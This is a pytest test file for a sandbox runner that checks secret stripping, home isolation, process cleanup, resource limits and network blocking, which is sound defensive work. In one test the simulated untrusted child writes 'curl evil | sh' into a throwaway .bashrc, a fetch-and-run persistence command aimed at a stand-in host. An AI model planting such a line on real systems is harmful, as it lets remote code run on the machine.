"""`run_untrusted`: real child processes, real limits, real sockets; each test shows one protection holding.

Where the kernel decides (network namespaces, RLIMIT_NPROC for root), the test asserts the protection when the
result says it held, and otherwise asserts that the result says it did not and why.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sys
import textwrap
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import psutil
import pytest

from pytest_faildiag.sandbox import (
    CPU,
    ENV,
    FSIZE,
    HOME,
    HOST_FILES,
    KILLED,
    MEMORY,
    NET,
    NPROC,
    PROTECTIONS,
    run_untrusted,
)

PY = sys.executable
SECRETS = {
    "GITHUB_TOKEN": "plain-gh-value-31337",
    "AWS_SECRET_ACCESS_KEY": "plain-aws-value-31337",
    "HF_TOKEN": "plain-hf-value-31337",
    "SOME_NEW_VENDOR_KEY": "plain-vendor-value-31337",
}


def py(code: str) -> list[str]:
    return [PY, "-c", textwrap.dedent(code)]


def gone(pid: int) -> bool:
    """Dead, or a zombie nobody reaped yet (it runs nothing)."""
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


@pytest.fixture
def secrets_set(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


def test_secrets_in_our_environment_do_not_reach_the_child(tmp_path: Path, secrets_set: None) -> None:
    res = run_untrusted(py("import json, os; print(json.dumps(dict(os.environ)))"), cwd=tmp_path, timeout_s=30)
    assert res.returncode == 0, res.output
    seen = json.loads(res.output)
    assert not set(SECRETS) & set(seen)
    assert not any(value in res.output for value in SECRETS.values())
    assert seen["PATH"] == os.environ["PATH"]
    assert res.held[ENV]


def test_only_named_variables_are_kept_and_none_unsets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VIRTUAL_ENV", str(tmp_path / "venv"))
    monkeypatch.setenv("TZ", "UTC")
    monkeypatch.setenv("JAVA_HOME", str(tmp_path / "jdk"))
    res = run_untrusted(
        py("import json, os; print(json.dumps(dict(os.environ)))"),
        cwd=tmp_path,
        timeout_s=30,
        keep_env=["VIRTUAL_ENV"],
        env={"TZ": None, "CI": "1"},
    )
    seen = json.loads(res.output)
    assert seen["VIRTUAL_ENV"] == str(tmp_path / "venv") and seen["CI"] == "1"
    assert "TZ" not in seen and "JAVA_HOME" not in seen


def test_home_is_a_fresh_folder_and_writing_to_it_leaves_the_real_home_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_home = tmp_path / "operator-home"
    real_home.mkdir()
    (real_home / ".netrc").write_text("machine example.com login me password hunter2\n")
    monkeypatch.setenv("HOME", str(real_home))
    work = tmp_path / "work"
    work.mkdir()
    res = run_untrusted(
        py("""
        import os, tempfile
        from pathlib import Path
        home = Path.home()
        print(home, os.listdir(home), tempfile.gettempdir())
        (home / ".bashrc").write_text("curl evil | sh\\n")
        (Path(tempfile.gettempdir()) / "scratch").write_text("x")
    """),
        cwd=work,
        timeout_s=30,
    )
    assert res.returncode == 0, res.output
    child_home, listing, child_tmp = res.output.split(" ", 2)
    assert child_home != str(real_home) and listing == "[]"
    assert not Path(child_home).exists() and not Path(child_tmp.strip()).exists()  # thrown away afterwards
    assert sorted(p.name for p in real_home.iterdir()) == [".netrc"]
    assert list(work.iterdir()) == []
    assert res.held[HOME]


def test_copy_cwd_runs_in_a_copy_that_is_thrown_away(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("original\n")
    res = run_untrusted(
        py("""
        import os
        from pathlib import Path
        Path("keep.txt").write_text("changed")
        Path("new.txt").write_text("x")
        print(os.getcwd())
    """),
        cwd=tmp_path,
        timeout_s=30,
        copy_cwd=True,
    )
    assert res.returncode == 0, res.output
    assert (tmp_path / "keep.txt").read_text() == "original\n" and not (tmp_path / "new.txt").exists()
    assert res.output.strip() != str(tmp_path) and not Path(res.output.strip()).exists()
    assert res.held["throw-away working copy"]


def test_a_timeout_kills_the_child_and_its_grandchildren(tmp_path: Path) -> None:
    res = run_untrusted(
        py(f"""
        import subprocess, sys, time
        same_group = subprocess.Popen([{PY!r}, "-c", "import time; time.sleep(120)"])
        own_session = subprocess.Popen([{PY!r}, "-c", "import time; time.sleep(120)"], start_new_session=True)
        print(same_group.pid, own_session.pid, flush=True)
        time.sleep(120)
    """),
        cwd=tmp_path,
        timeout_s=5,
        term_grace_s=0.5,
    )
    assert res.timed_out and res.returncode is None
    pids = [int(p) for p in res.output.split()]
    assert len(pids) == 2 and all(gone(p) for p in pids), res.output
    assert res.held[KILLED] and res.leftover == []
    assert res.duration_s < 10


def test_a_child_that_ignores_sigterm_is_killed(tmp_path: Path) -> None:
    res = run_untrusted(
        py("""
        import signal, time
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        print("ready", flush=True)
        time.sleep(120)
    """),
        cwd=tmp_path,
        timeout_s=2,
        term_grace_s=0.5,
    )
    assert res.timed_out and "ready" in res.output and res.held[KILLED]


def test_processes_left_behind_by_a_finished_child_are_killed(tmp_path: Path) -> None:
    # A daemon: double fork, new session, and (the second one) an emptied environment. Only the network
    # namespace still ties that one to the run.
    res = run_untrusted(
        py(f"""
        import subprocess
        kept = subprocess.Popen([{PY!r}, "-c", "import time; time.sleep(120)"], start_new_session=True)
        bare = subprocess.Popen([{PY!r}, "-c", "import time; time.sleep(120)"], start_new_session=True, env={{}})
        print(kept.pid, bare.pid)
    """),
        cwd=tmp_path,
        timeout_s=30,
        term_grace_s=0.5,
    )
    assert res.returncode == 0 and not res.timed_out
    kept, bare = (int(p) for p in res.output.split())
    assert gone(kept)
    if res.held[NET]:
        assert gone(bare) and res.held[KILLED]
    else:  # without a namespace nothing marks it: say so by cleaning up here
        psutil.Process(bare).kill()


def test_a_file_bigger_than_the_limit_is_stopped(tmp_path: Path) -> None:
    limit = 1 << 20
    res = run_untrusted(
        py("open('big.bin', 'wb').write(b'x' * (4 << 20))"), cwd=tmp_path, timeout_s=30, file_bytes=limit
    )
    assert res.returncode != 0 and "File too large" in res.output
    assert (tmp_path / "big.bin").stat().st_size <= limit
    shell = run_untrusted(
        ["sh", "-c", "head -c 4000000 /dev/zero > big2.bin; echo exit=$?"], cwd=tmp_path, timeout_s=30, file_bytes=limit
    )
    assert f"exit={128 + signal.SIGXFSZ}" in shell.output  # a program not catching SIGXFSZ is killed by it
    assert (tmp_path / "big2.bin").stat().st_size <= limit
    assert res.held[FSIZE] and shell.held[FSIZE]


def test_memory_beyond_the_limit_fails(tmp_path: Path) -> None:
    res = run_untrusted(
        py("b = bytearray(1 << 30); print('allocated')"), cwd=tmp_path, timeout_s=30, memory_bytes=256 << 20
    )
    assert res.returncode != 0 and "MemoryError" in res.output and "allocated" not in res.output
    assert res.held[MEMORY]


def test_a_busy_loop_is_stopped_by_the_cpu_limit_before_the_timeout(tmp_path: Path) -> None:
    res = run_untrusted(py("while True: pass"), cwd=tmp_path, timeout_s=60, cpu_s=1)
    assert not res.timed_out and res.returncode in (-signal.SIGXCPU, -signal.SIGKILL)
    assert res.duration_s < 30 and res.held[CPU]


def test_the_child_cannot_connect_to_a_local_server_when_the_namespace_held(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        code = py(f"""
            import socket
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
                print("connected")
            except OSError as exc:
                print("refused:", exc)
        """)
        allowed = run_untrusted(code, cwd=tmp_path, timeout_s=30, network=True)
        closed = run_untrusted(code, cwd=tmp_path, timeout_s=30)
    assert allowed.output.strip() == "connected"  # the probe does detect a reachable server
    assert not allowed.held[NET] and "allowed by the caller" in allowed.notes[NET]
    if closed.held[NET]:
        assert closed.output.startswith("refused:"), closed.output
    else:  # the kernel refused a namespace: the result must say so, not claim it
        assert "no network (netns)" in " ".join(closed.protections_missing)
        assert closed.notes[NET]


def test_the_process_limit_holds_or_says_why_not(tmp_path: Path) -> None:
    res = run_untrusted(
        py("""
        import threading, time
        started = 0
        try:
            for _ in range(200):
                threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
                started += 1
        except RuntimeError as exc:
            print("stopped:", exc)
        print("started", started)
    """),
        cwd=tmp_path,
        timeout_s=30,
        max_processes=20,
    )
    if res.held[NPROC]:
        assert "stopped:" in res.output and "started 200" not in res.output
    else:  # only root is exempt from RLIMIT_NPROC
        assert os.getuid() == 0 and "exempts root" in res.notes[NPROC]


def test_every_protection_is_reported_and_host_files_never_claimed(tmp_path: Path) -> None:
    res = run_untrusted(["true"], cwd=tmp_path, timeout_s=30)
    assert set(res.held) == set(PROTECTIONS)
    assert not res.held[HOST_FILES] and "absolute path" in res.notes[HOST_FILES]
    assert res.summary().startswith("held: env allow-list")


def test_a_missing_program_or_folder_is_127_not_a_traceback(tmp_path: Path) -> None:
    missing = run_untrusted(["no-such-program-faildiag"], cwd=tmp_path, timeout_s=30)
    assert missing.returncode == 127 and "command not found" in missing.error
    nowhere = run_untrusted(["true"], cwd=tmp_path / "absent", timeout_s=30)
    assert nowhere.returncode == 127 and "not found" in nowhere.error
    assert run_untrusted([], cwd=tmp_path, timeout_s=30).returncode == 127


def test_output_is_capped_to_its_tail(tmp_path: Path) -> None:
    res = run_untrusted(
        py("import sys\nfor i in range(200000): print(i)\nprint('END')"),
        cwd=tmp_path,
        timeout_s=60,
        output_limit=64 << 10,
    )
    assert res.output_truncated and len(res.output) <= 64 << 10 and res.output.rstrip().endswith("END")


def test_runs_from_several_threads_at_once(tmp_path: Path, secrets_set: None) -> None:
    code = py("import os; print(os.environ.get('GITHUB_TOKEN'))")
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda _: run_untrusted(code, cwd=tmp_path, timeout_s=30), range(4)))
    assert [r.output.strip() for r in results] == ["None"] * 4


def test_a_missing_scratch_folder_is_127_not_a_traceback(tmp_path: Path) -> None:
    res = run_untrusted(["true"], cwd=tmp_path, timeout_s=30, scratch_dir=tmp_path / "absent")
    assert res.returncode == 127 and "scratch folder" in res.error
